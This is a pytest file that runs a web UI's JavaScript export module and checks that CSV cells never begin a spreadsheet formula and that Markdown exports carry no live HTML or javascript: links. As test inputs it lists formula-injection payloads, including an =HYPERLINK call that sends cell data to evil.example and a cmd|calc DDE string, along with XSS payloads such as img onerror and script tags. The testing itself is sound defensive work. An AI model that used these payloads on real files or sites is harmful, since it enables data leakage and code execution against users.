"""D5 and D7 (issue 17): the comparison exports (service/static/export.js) carry document text
into other programs. A CSV cell must never start a spreadsheet formula (=HYPERLINK(…) was
confirmed); a Markdown export must never carry live HTML or a javascript: link.

The module is pure JavaScript; node runs it (the test is skipped where node is missing).
"""

from __future__ import annotations

import csv
import io
import json
import shutil
import subprocess
from pathlib import Path

import pytest

EXPORT = Path(__file__).resolve().parents[2] / "service" / "static" / "export.js"
NODE = shutil.which("node")
pytestmark = pytest.mark.skipif(NODE is None, reason="needs node to run the UI's export module")

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "＝1+1",
]


def _compare(texts: list[str]) -> dict:
    items = [
        {
            "clause_id": f"d:{i:04d}",
            "doc_id": "d",
            "text": t,
            "path": [],
            "facts": [{"text": t}],
            "document": {"title": t, "doc_no": t, "issuer": t, "date": "2020-01-01"},
        }
        for i, t in enumerate(texts, start=1)
    ]
    return {"topic": texts[0], "columns": [{"region": {"id": "r", "name": texts[0]}, "items": items}]}


def _run(function: str, data: dict) -> str:
    script = (
        f"import {{ {function} }} from {json.dumps(EXPORT.as_uri())};\n"
        f"process.stdout.write({function}({json.dumps(data, ensure_ascii=False)}, 'http://127.0.0.1:8000/'));\n"
    )
    out = subprocess.run(
        [NODE, "--input-type=module", "-e", script], capture_output=True, text=True, timeout=60, check=True
    )
    return out.stdout


def test_d5_csv_cells_never_start_a_formula() -> None:
    raw = _run("compareToCSV", _compare(HOSTILE))
    rows = list(csv.reader(io.StringIO(raw.lstrip("\ufeff"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert cells
    for cell in cells:
        assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r", "＝"), cell
    # the text itself is kept, after the neutralising apostrophe
    assert any(cell == "'" + HOSTILE[0] for cell in cells)


MD_HOSTILE = [
    '<img src=x onerror="alert(1)">党支部',
    "[点击](javascript:alert(1))",
    "![x](http://evil.example/t.png)",
    "<script>alert(1)</script>",
    "<javascript:alert(1)>",
]


def test_d7_markdown_export_carries_no_live_html_or_links() -> None:
    md = _run("compareToMarkdown", _compare(MD_HOSTILE))
    assert "<img" not in md and "<script" not in md and "<javascript:" not in md
    assert "](javascript:" not in md and "](http://evil" not in md
    assert "&lt;img" in md  # shown as text, not dropped
    # the export's own links still work
    assert "](http://127.0.0.1:8000/#/doc/d?clause=d%3A0001)" in md
